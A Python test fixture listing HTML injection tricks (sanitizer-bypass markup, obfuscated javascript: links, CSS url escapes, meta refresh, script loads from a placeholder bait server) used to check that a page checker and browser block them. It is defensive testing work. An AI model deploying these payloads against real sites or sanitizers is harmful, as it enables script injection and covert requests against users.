"""Markup that tries to make a browser fetch an address or run a script, for the page check and the browser.

Each trick names the bait it asks for as ``BAIT/<name>`` (``BAIT`` becomes the
address of a server that records requests, ``HOST`` the same without ``http:``) and its scripts set
``top.__ran`` and log ``__ran__``. ``fires`` says how the trick acts in a
browser without any fence: ``"load"`` when the page is opened, ``"click"``
when a link in it is followed, ``""`` when Chromium does nothing with it
(the check still refuses it: another browser, or a later one, might).
``beyond_policy`` names what still happens behind the policy alone, for the
two things a Content-Security-Policy cannot stop: a ``<meta
http-equiv=refresh>`` still sends its request, and Chromium still opens a
connection (with no request on it) for an ``<iframe src>``. The check refuses both.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "console.log('__ran__');top.__ran=1;void 0"


@dataclass(frozen=True)
class Trick:
    name: str
    markup: str
    fires: str = "load"
    head: bool = False  # goes in <head> rather than <body>
    beyond_policy: str = ""  # "", "connection" or "request"
    whole: bool = False  # the markup is the whole page

    def page(self, bait: str) -> str:
        """A whole page holding the trick, aimed at ``bait`` (no fence)."""
        markup = self.markup.replace("BAIT", bait).replace("HOST", bait.removeprefix("http:")).replace("RUN", RUN)
        if self.whole:
            return markup
        head, body = (markup, "") if self.head else ("", markup)
        return PAGE.format(title=self.name, head=head, body=body)


PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>{title}</title>
{head}
</head>
<body>
<h1>Handout</h1>
{body}
<p>The end.</p>
</body>
</html>
"""

TRICKS = [
    # what a regex and Python's html.parser read differently from a browser
    Trick("comment-bang", '<!-- a comment --!><img src="BAIT/comment-bang" alt="">'),
    Trick("comment-bang-closed", '<!-- a --!><img src="BAIT/comment-bang-closed" alt=""> -->'),
    Trick("comment-bang-upper", '<!-- --!><IMG SRC="BAIT/comment-bang-upper" ALT="">'),
    Trick("svg-style-breakout", '<svg><style><img src="BAIT/svg-style-breakout" alt=""></style></svg>'),
    Trick("math-style-breakout", '<math><style><img src="BAIT/math-style-breakout" alt=""></style></math>'),
    Trick("select-img", '<select><img src="BAIT/select-img" alt=""></select>'),
    Trick("select-div-img", '<select><option>x</option><div><img src="BAIT/select-div-img" alt=""></div></select>'),
    Trick("noscript-style", '<noscript><style></noscript><img src="BAIT/noscript-style" alt=""></style></noscript>'),
    Trick("title-in-svg", '<svg><title><img src="BAIT/title-in-svg" alt=""></title></svg>'),
    Trick("iframe-srcdoc", "<iframe srcdoc=\"<img src='BAIT/iframe-srcdoc'><script>RUN</script>\"></iframe>"),
    Trick("iframe-srcdoc-entities",
          '<iframe srcdoc="&lt;img src=&quot;BAIT/iframe-srcdoc-entities&quot;&gt;"></iframe>'),
    Trick("iframe-src", '<iframe src="BAIT/iframe-src"></iframe>', beyond_policy="connection"),
    Trick("iframe-data", "<iframe src=\"data:text/html,<script>RUN</script>\"></iframe>"),
    Trick("object-data", '<object data="BAIT/object-data" type="text/html"></object>'),
    Trick("embed-src", '<embed src="BAIT/embed-src" type="image/png">'),
    # SVG and MathML
    Trick("feimage-href", '<svg width="20" height="20"><filter id="f"><feImage href="BAIT/feimage-href"/></filter>'
                          '<rect width="20" height="20" filter="url(#f)"/></svg>'),
    Trick("feimage-xlink", '<svg width="20" height="20"><filter id="g"><feImage xlink:href="BAIT/feimage-xlink"/>'
                           '</filter><rect width="20" height="20" filter="url(#g)"/></svg>'),
    Trick("svg-image", '<svg width="20" height="20"><image href="BAIT/svg-image" width="20" height="20"/></svg>'),
    Trick("svg-image-xlink-upper",
          '<SVG width="20" height="20"><IMAGE XLINK:HREF="BAIT/svg-image-xlink-upper" width="20" height="20"/></SVG>'),
    Trick("svg-use", '<svg width="20" height="20"><use href="BAIT/svg-use.svg#x"/></svg>', fires=""),
    Trick("svg-script", "<svg><script>RUN</script></svg>"),
    Trick("svg-script-href", '<svg><script href="BAIT/svg-script-href.js"></script></svg>'),
    Trick("svg-onload", '<svg onload="RUN"></svg>'),
    Trick("svg-a-xlink-javascript",
          '<svg width="40" height="20"><a xlink:href="javascript:RUN"><text y="15">go</text></a></svg>', fires="click"),
    Trick("svg-a-href-javascript",
          '<svg width="40" height="20"><a href=" JavaScript:RUN"><text y="15">go</text></a></svg>', fires="click"),
    Trick("svg-fill-url", '<svg width="20" height="20"><rect width="20" height="20" fill="url(BAIT/svg-fill-url#p)"/>'
                          '</svg>'),
    Trick("svg-set-href", '<svg width="40" height="20"><a href="#x"><set attributeName="href" '
                          'to="javascript:RUN"/><text y="15">go</text></a></svg>', fires="click"),
    Trick("svg-foreignobject", '<svg width="20" height="20"><foreignObject width="20" height="20">'
                               '<img src="BAIT/svg-foreignobject" alt=""></foreignObject></svg>'),
    Trick("math-href", '<math href="javascript:RUN"><mi>x</mi></math>', fires=""),
    Trick("mathml-mtext-img", '<math><mtext><img src="BAIT/mathml-mtext-img" alt=""></mtext></math>'),
    # javascript: as a browser's URL parser reads it
    Trick("javascript-newline", '<a href="java\nscript:RUN">go</a>', fires="click"),
    Trick("javascript-newline-entity", '<a href="java&#10;script:RUN">go</a>', fires="click"),
    Trick("javascript-tab-entity", '<a href="jav&#x09;ascript:RUN">go</a>', fires="click"),
    Trick("javascript-control", '<a href="\x01javascript:RUN">go</a>', fires="click"),
    Trick("javascript-control-entity", '<a href="&#x14;&#x01; javascript:RUN">go</a>', fires="click"),
    Trick("javascript-case-colon", '<a href="JaVaScRiPt&colon;RUN">go</a>', fires="click"),
    Trick("javascript-area", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" alt="">'
                             '<map name="m"><area href="javascript:RUN" shape="default" alt="go"></map>',
          fires="click"),
    Trick("data-link", '<a href="data:text/html,<script>RUN</script>">go</a>', fires=""),
    # CSS
    Trick("image-set", "<div style=\"width:20px;height:20px;background-image:image-set('BAIT/image-set' 1x)\"></div>"),
    Trick("webkit-image-set", '<div style="width:20px;height:20px;'
                              'background-image:-webkit-image-set(url(BAIT/webkit-image-set) 1x)"></div>'),
    Trick("image-set-var", "<div style='width:20px;height:20px;--u:\"BAIT/image-set-var\";"
                           "background-image:image-set(var(--u) 1x)'></div>"),
    Trick("css-escaped-url", '<style>div.e{width:20px;height:20px;background:u\\72 l(BAIT/css-escaped-url)}</style>'
                             '<div class="e"></div>'),
    Trick("css-upper-url", '<style>/* } */div.u{width:20px;height:20px;background-image:URL( "BAIT/css-upper-url" )}'
                           '</style><div class="u"></div>'),
    Trick("css-import", '<style>@import "BAIT/css-import.css";</style>', head=True),
    Trick("css-import-escaped", '<style>@\\69mport url(BAIT/css-import-escaped.css);</style>', head=True),
    Trick("css-font-face", '<style>@font-face{font-family:Bait;src:url(BAIT/css-font-face.woff)}'
                           'h1{font-family:Bait}</style>', head=True),
    Trick("css-var-url", '<style>:root{--b:url(BAIT/css-var-url)}h1{background-image:var(--b)}</style>', head=True),
    Trick("svg-style-url", '<svg width="20" height="20"><style>rect{fill:red;filter:url(BAIT/svg-style-url#f)}</style>'
                           '<rect width="20" height="20"/></svg>', fires=""),
    Trick("style-entity-url", '<div style="width:20px;height:20px;background:&#x75;rl(BAIT/style-entity-url)"></div>'),
    Trick("css-list-style", '<ul style="list-style-image:url(BAIT/css-list-style)"><li>x</li></ul>'),
    # head: links, base, meta
    Trick("link-stylesheet", '<link rel="stylesheet" href="BAIT/link-stylesheet.css">', head=True),
    Trick("link-preload", '<link rel="preload" as="image" href="BAIT/link-preload">', head=True),
    Trick("link-icon", '<link rel="icon" href="BAIT/link-icon.png">', head=True),
    Trick("base-href", '<base href="BAIT/base-href/"><img src="pixel.png" alt="">'),
    Trick("meta-refresh", '<meta http-equiv="refresh" content="0;url=BAIT/meta-refresh">', head=True,
          beyond_policy="request"),
    Trick("meta-refresh-body", '<meta http-equiv="Refresh" content="0; URL=\'BAIT/meta-refresh-body\'">',
          beyond_policy="request"),
    Trick("meta-csp-weaker", '<meta http-equiv="Content-Security-Policy" content="default-src *">', head=True,
          fires=""),
    Trick("meta-charset-other", '<meta charset="windows-1252">', head=True, fires=""),
    # scripts and event handlers
    Trick("script", "<script>RUN</script>"),
    Trick("script-src-data", '<script src="data:text/javascript,console.log(\'__ran__\');top.__ran=1"></script>'),
    Trick("script-src", '<script src="BAIT/script-src.js"></script>'),
    Trick("img-onerror", '<img src="data:," onerror="RUN" alt="">'),
    Trick("details-ontoggle", '<details open ontoggle="RUN"><summary>x</summary>y</details>'),
    Trick("body-onload", '<body onload="RUN">'),
    # other loading attributes
    Trick("img-srcset", '<img srcset="BAIT/img-srcset 1x" alt="">'),
    Trick("img-srcset-after-data", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" '
                                   'srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 0.5x, '
                                   'BAIT/img-srcset-after-data 1x" '
                                   'alt="">'),
    Trick("picture-source", '<picture><source srcset="BAIT/picture-source"><img src="data:," alt=""></picture>'),
    Trick("video-poster", '<video poster="BAIT/video-poster" width="20" height="20"></video>'),
    Trick("video-src", '<video src="BAIT/video-src" preload="auto"></video>'),
    Trick("audio-source", '<audio preload="auto"><source src="BAIT/audio-source"></audio>'),
    Trick("input-image", '<input type="image" src="BAIT/input-image" alt="go">'),
    Trick("table-background", '<table background="BAIT/table-background"><tr><td>x</td></tr></table>'),
    Trick("body-background", '<body background="BAIT/body-background">'),
    Trick("lazy-img-upper", '<IMG LOADING="lazy" SRC = " BAIT/lazy-img-upper" ALT="">'),
    Trick("img-src-entity", '<img src="&#104;ttp&colon;HOST/img-src-entity" alt="">'),
    Trick("a-ping", '<a href="#x" ping="BAIT/a-ping">go</a>', fires="click"),
    Trick("form-action", '<form action="BAIT/form-action"><button>go</button></form>', fires=""),
    Trick("attributionsrc", '<img src="data:," attributionsrc="BAIT/attributionsrc" alt="">', fires=""),
    # an encoding whose escape sequences, begun before <head>, would turn what follows into text
    Trick("declared-encoding", '<!DOCTYPE html>\n<html lang="\x1b$B">\n<head>\x1b(B">\n<meta charset="iso-2022-jp">\n'
                               '<title>x</title>\n</head>\n<body>\n<img src="BAIT/declared-encoding" alt="">'
                               '<script>RUN</script>\n</body>\n</html>\n', whole=True),
    Trick("template-shadowroot", '<div><template shadowrootmode="open"><img src="BAIT/template-shadowroot" alt="">'
                                 '</template></div>'),
]

#: tricks by name
BY_NAME = {trick.name: trick for trick in TRICKS}
